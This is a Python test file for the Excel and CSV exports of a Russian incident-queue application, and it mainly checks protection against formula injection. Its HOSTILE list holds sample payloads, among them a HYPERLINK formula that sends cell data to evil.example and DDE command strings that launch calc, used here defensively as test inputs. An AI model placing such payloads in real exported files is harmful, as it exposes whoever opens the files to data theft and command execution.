"""Exports of the queue view to .xlsx and .csv: every row, Russian headers, no formula injection."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.models.enums import Priority
from app.services import export, workflow
from app.services.errors import ValidationError
from app.services.queue import QueueFilter, QueueSort
from tests.helpers.world import MSK, World, build_world

#: texts a social-network user could write to attack whoever opens the export in Excel
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажмите\")",
    "+7 (900) 000-00-00 звоните",
    "-1+1 и всё тут",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tтабуляция в начале",
    "\rвозврат каретки",
    "#N/A",
    "\uff1d1+1 полноширинное равно",
    "  =1+1 с пробелами",
]


@pytest.fixture
def world(db, monkeypatch: pytest.MonkeyPatch) -> World:  # noqa: ANN001
    return build_world(monkeypatch)


def register(w: World, n: int, text: str, *, author: str = "Житель", link: str | None = None,
             priority: Priority = Priority.NORMAL) -> int:
    ref = workflow.register_incident(
        w.actor("kurator"), link=link or f"https://vk.com/wall-100_{n}", author=author, text=text,
        detected_at=datetime(2026, 11, 23, 10, n % 60, tzinfo=MSK), priority=priority)
    return ref.id


def hostile_world(w: World) -> list[int]:
    ids = [register(w, n, text, author=text if n % 2 else "=cmd|' /C calc'!A0") for n, text in enumerate(HOSTILE, 1)]
    ids.append(register(w, 50, "Обычный текст\nна двух строках", link="https://t.me/korenovsk/50",
                        priority=Priority.HIGH))
    return ids


def test_xlsx_export_has_every_row_and_no_formula(world: World, tmp_path: Path) -> None:
    ids = hostile_world(world)
    out = tmp_path / "очередь.xlsx"
    count = export.export_queue(world.actor("kurator"), QueueFilter(preset="all"), QueueSort("number"), out)
    assert count == len(ids)
    wb = load_workbook(out)
    ws = wb.active
    assert ws.title == "Очередь" and ws.freeze_panes == "A4"  # the title, the moment, the header stay
    assert ws.auto_filter.ref == f"A3:N{len(ids) + 3}"
    assert ws.print_title_rows == "$3:$3"  # the header repeats on every printed page
    rows = list(ws.iter_rows())
    assert rows[0][0].value == "Очередь инцидентов — «Все»" and rows[0][0].font.b
    assert rows[1][0].value == (f"По состоянию на 24.11.2026 09:30 (московское время) — {len(ids)} инцидентов; "
                                "«Текущий срок» рассчитан на этот момент")
    assert [c.value for c in rows[2]] == list(export.QUEUE_HEADERS)
    assert all(c.font.b for c in rows[2])
    # the injection guard: not a single formula (nor an error value) anywhere in the workbook
    assert not [c.coordinate for row in rows for c in row if c.data_type in ("f", "e")]
    by_number = {row[0].value: row for row in rows[3:]}
    assert sorted(by_number) == sorted(ids)
    for n, text in enumerate(HOSTILE, 1):
        row = by_number[ids[n - 1]]
        text_cell, author_cell = row[5], row[4]
        stored = text.strip()  # the workflow strips what it registers
        assert text_cell.value == stored and text_cell.data_type == "s"
        assert text_cell.quotePrefix == export.is_formula_like(stored), text  # stays text when edited
        assert author_cell.data_type == "s"
    last = by_number[ids[-1]]
    assert last[1].value == datetime(2026, 11, 23, 10, 50) and last[1].number_format == export.DATETIME_FORMAT
    assert last[2].value == "Telegram" and last[3].value == "https://t.me/korenovsk/50"
    assert last[5].value == "Обычный текст\nна двух строках"
    assert last[8].value == "Новый" and last[9].value == "Повышенной важности"
    assert isinstance(last[10].value, datetime)
    assert last[11].value.startswith("Направление исполнителю (п. 10)")
    assert last[12].value is None and last[13].value is None  # no request to the author (clause 13)


def test_csv_export_is_for_russian_excel_and_guarded(world: World, tmp_path: Path) -> None:
    ids = hostile_world(world)
    out = tmp_path / "очередь.csv"
    export.export_queue(world.actor("kurator"), QueueFilter(preset="all"), QueueSort("number"), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[:2] == [["Очередь инцидентов — «Все»"],
                         [f"По состоянию на 24.11.2026 09:30 (московское время) — {len(ids)} инцидентов; "
                          "«Текущий срок» рассчитан на этот момент"]]
    assert table[2] == list(export.QUEUE_HEADERS)
    assert len(table) == len(ids) + 3
    texts = {int(r[0]): r[5] for r in table[3:]}
    guarded = 0
    for n, text in enumerate(HOSTILE, 1):
        stored = text.strip()
        assert texts[ids[n - 1]] == ("'" + stored if export.is_formula_like(stored) else stored)
        guarded += texts[ids[n - 1]].startswith("'")
    assert guarded == 6  # = + - @ ＝ and the one after the spaces: the apostrophe makes Excel show text
    authors = {r[4] for r in table[3:]}
    assert "'=cmd|' /C calc'!A0" in authors
    first = next(r for r in table[3:] if int(r[0]) == ids[-1])
    assert first[1] == "23.11.2026 10:50" and first[9] == "Повышенной важности"


def test_export_follows_the_filter_and_pages_through_everything(world: World, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    vk = [register(world, n, f"Сообщение {n}") for n in range(1, 8)]
    register(world, 30, "В Телеграме", link="https://t.me/korenovsk/30")
    monkeypatch.setattr(export, "EXPORT_PAGE", 3)
    seen: list[tuple[int, int]] = []
    out = tmp_path / "vk.csv"
    count = export.export_queue(world.actor("kurator"), QueueFilter(preset="all", networks=("vk",)),
                                QueueSort("number"), out, progress=lambda done, total: seen.append((done, total)))
    assert count == 7
    table = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[0] == ["Очередь инцидентов — «Все»; соцсеть: ВКонтакте"]
    assert [int(r[0]) for r in table[3:]] == vk
    assert seen == [(3, 7), (6, 7), (7, 7)]


def test_cancelled_export_leaves_no_file(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for n in range(1, 5):
        register(world, n, f"Сообщение {n}")
    monkeypatch.setattr(export, "EXPORT_PAGE", 2)
    out = tmp_path / "очередь.xlsx"
    assert export.export_queue(world.actor("kurator"), QueueFilter(), QueueSort(), out,
                               progress=lambda done, total: False) == 0
    assert list(tmp_path.iterdir()) == []


def test_an_executor_exports_only_their_units_incidents(world: World, tmp_path: Path) -> None:
    first = register(world, 1, "Фонари")
    register(world, 2, "Мусор")
    k = world.actor("kurator")
    workflow.route(k, first, 1, unit_ids=[world.units["zhkh"]], topic_id=world.topic_id,
                   location_id=world.location_id)
    out = tmp_path / "моё.xlsx"
    assert export.export_queue(world.actor("zhkh"), QueueFilter(preset="unit_all"), QueueSort(), out) == 1
    ws = load_workbook(out).active
    assert ws.cell(1, 1).value == "Очередь инцидентов — «Все моего отдела»"
    assert ws.cell(4, 1).value == first and ws.cell(4, 8).value


def test_bad_targets_are_refused_in_russian(world: World, tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match="только в .xlsx или .csv"):
        export.export_queue(world.actor("kurator"), QueueFilter(), QueueSort(), tmp_path / "очередь.pdf")
    with pytest.raises(ValidationError, match="не найдена"):
        export.export_queue(world.actor("kurator"), QueueFilter(), QueueSort(), tmp_path / "нет" / "q.xlsx")


@pytest.mark.parametrize("text,risky", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@x", True), ("\tx", True), ("\x01x", True),
    ("\uff1d1", True), (" =1", True), ("Обычный текст", False), ("1-1", False), ("", False), ("a=b", False),
])
def test_formula_like_detection(text: str, risky: bool) -> None:
    assert export.is_formula_like(text) is risky
    assert export.csv_safe(text) == ("'" + text if risky else text)


def test_write_table_xlsx_replaces_characters_excel_cannot_hold(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    long_text = "я" * 40_000
    assert export.write_table(out, ["Текст", "Число"], [["a\x00b\x07c", 5], [long_text, 1.5], [None, None]]) == 3
    ws = load_workbook(out).active
    assert ws.cell(2, 1).value == "a b c" and ws.cell(2, 2).value == 5  # a space, as everywhere (cell_text)
    assert len(ws.cell(3, 1).value) == export.XLSX_CELL_LIMIT and ws.cell(3, 1).value.endswith("…")
    assert ws.cell(4, 1).value is None


def test_write_table_guards_values_starting_with_a_control_character(tmp_path: Path) -> None:
    values = ["\tтабуляция", "\r=1+1", "=1+1"]
    export.write_table(tmp_path / "t.xlsx", ["Текст"], [[v] for v in values])
    ws = load_workbook(tmp_path / "t.xlsx").active
    cells = [ws.cell(r, 1) for r in (2, 3, 4)]
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in values]  # XML keeps no bare CR
    assert all(c.quotePrefix and c.data_type == "s" for c in cells)
    export.write_table(tmp_path / "t.csv", ["Текст"], [[v] for v in values])
    table = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_bytes().decode("utf-8-sig"), newline=""),
                            delimiter=";"))
    assert [r[0] for r in table[1:]] == ["'" + v.replace("\r", "\n") for v in values]  # one kind of line break


def test_an_incident_waiting_for_its_author_exports_the_request_and_the_wait(world: World, tmp_path: Path) -> None:
    """Clause 13: the request posted Mon 23 Nov 11:00 is unanswered at Tue 24 10:30 — Mon 11:00–13:00 (120)
    + 14:00–18:00 (240) + Tue 09:00–10:30 (90) = 450 working minutes of waiting, «7 ч 30 мин»."""
    w = world
    w.clock.set(datetime(2026, 11, 23, 10, 20, tzinfo=MSK))
    incident = register(w, 7, "Не горят фонари у дома")  # detected 10:07
    k, zhkh = w.actor("kurator"), w.actor("zhkh")
    w.clock.set(datetime(2026, 11, 23, 10, 30, tzinfo=MSK))
    ref = workflow.route(k, incident, 1, unit_ids=[w.units["zhkh"]], topic_id=w.topic_id, no_location=True)
    ref = workflow.save_request(zhkh, ref.id, ref.version, text="Уточните, пожалуйста, номер дома")
    ref = workflow.submit_request(zhkh, ref.id, ref.version)
    ref = workflow.approve(k, ref.id, ref.version)
    w.clock.set(datetime(2026, 11, 23, 11, 0, tzinfo=MSK))
    workflow.publish(zhkh, ref.id, ref.version, url="https://vk.com/wall-100_7?reply=1")
    w.clock.set(datetime(2026, 11, 24, 10, 30, tzinfo=MSK))
    out = tmp_path / "уточнения.xlsx"
    assert export.export_queue(k, QueueFilter(preset="clarification"), QueueSort(), out) == 1
    row = [c for c in next(load_workbook(out).active.iter_rows(min_row=4))]
    assert row[8].value == "Ждёт ответа автора" and row[12].value == "ждёт ответа автора"
    assert row[13].value == timedelta(minutes=450) and row[13].number_format == export.DURATION_FORMAT
    csv_out = tmp_path / "уточнения.csv"
    export.export_queue(k, QueueFilter(preset="clarification"), QueueSort(), csv_out)
    table = list(csv.reader(io.StringIO(csv_out.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[3][12:] == ["ждёт ответа автора", "7 ч 30 мин"]


def test_links_are_clickable_on_their_own_cells(world: World, tmp_path: Path) -> None:
    links = ["https://vk.com/wall-100_1?reply=5", "https://t.me/korenovsk/50", "https://ok.ru/group/1/topic/7"]
    ids = [register(world, n, f"Сообщение {n}", link=link) for n, link in enumerate(links, 1)]
    out = tmp_path / "очередь.xlsx"
    export.export_queue(world.actor("kurator"), QueueFilter(preset="all"), QueueSort("number"), out)
    ws = load_workbook(out).active
    column = export.QUEUE_HEADERS.index("Ссылка") + 1
    assert ws.cell(3, column).value == "Ссылка" and ws.cell(3, column).hyperlink is None
    for row, (incident_id, link) in enumerate(zip(ids, links), start=4):
        cell = ws.cell(row, column)
        assert (ws.cell(row, 1).value, cell.value, cell.hyperlink.target) == (incident_id, link, link)
        assert cell.hyperlink.ref == cell.coordinate and cell.font.u == "single"
    # no link anywhere else: every hyperlink of the sheet is on a link cell of a data row
    linked = [c.coordinate for row in ws.iter_rows() for c in row if c.hyperlink is not None]
    assert linked == [f"D{row}" for row in range(4, 4 + len(ids))]
    assert load_workbook(out).sheetnames == ["Очередь"]


def test_every_row_is_timed_at_the_one_moment_the_title_names(world: World, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """Detected Tue 24.11 at 09:10, each incident is to be routed by 09:40 (clause 10, 30 minutes); the export
    starts at 09:30 and takes (as if) three hours, a page an hour: every row is still timed at 09:30."""
    ids = [workflow.register_incident(world.actor("kurator"), link=f"https://vk.com/wall-100_{n}", author="Житель",
                                      text="Фонари", detected_at=datetime(2026, 11, 24, 9, 10, tzinfo=MSK)).id
           for n in range(1, 7)]
    monkeypatch.setattr(export, "EXPORT_PAGE", 2)
    real_fetch = export.queue.fetch_page

    def slow_fetch(*args: object, **kwargs: object) -> object:
        page = real_fetch(*args, **kwargs)
        world.clock.set(world.clock.moment + timedelta(hours=1))
        return page

    monkeypatch.setattr(export.queue, "fetch_page", slow_fetch)
    out = tmp_path / "очередь.csv"
    export.export_queue(world.actor("kurator"), QueueFilter(preset="all"), QueueSort("number"), out)
    table = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[1][0].startswith("По состоянию на 24.11.2026 09:30 (московское время) — 6 инцидентов")
    assert [int(r[0]) for r in table[3:]] == ids
    assert {r[11] for r in table[3:]} == {"Направление исполнителю (п. 10): осталось 10 минут"}


def test_control_characters_are_a_space_in_both_formats(world: World, tmp_path: Path) -> None:
    incident = register(world, 1, "Упр\x01символы\x1b и\x7f\x85конец", author="Житель\x02Иванов")
    for name in ("q.xlsx", "q.csv"):
        export.export_queue(world.actor("kurator"), QueueFilter(preset="all"), QueueSort(), tmp_path / name)
    ws = load_workbook(tmp_path / "q.xlsx").active
    assert (ws.cell(4, 1).value, ws.cell(4, 5).value, ws.cell(4, 6).value) == (
        incident, "Житель Иванов", "Упр символы и конец")
    table = list(csv.reader(io.StringIO((tmp_path / "q.csv").read_bytes().decode("utf-8-sig"), newline=""),
                            delimiter=";"))
    assert (table[3][4], table[3][5]) == ("Житель Иванов", "Упр символы и конец")


def test_the_title_names_the_tab_and_every_filter(world: World) -> None:
    f = QueueFilter(preset="all", networks=("vk", "telegram"), priority="high", search=" фонари ",
                    unit_ids=(world.units["zhkh"],), detected_from=date(2026, 11, 1), detected_to=date(2026, 11, 24))
    assert export.queue_title(world.actor("kurator"), f) == (
        "Очередь инцидентов — «Все»; соцсети: ВКонтакте, Telegram; исполнители: Отдел ЖКХ, благоустройства и транспорта; "
        "важность: повышенной важности; выявлены с 01.11.2026 по 24.11.2026; поиск: «фонари»")
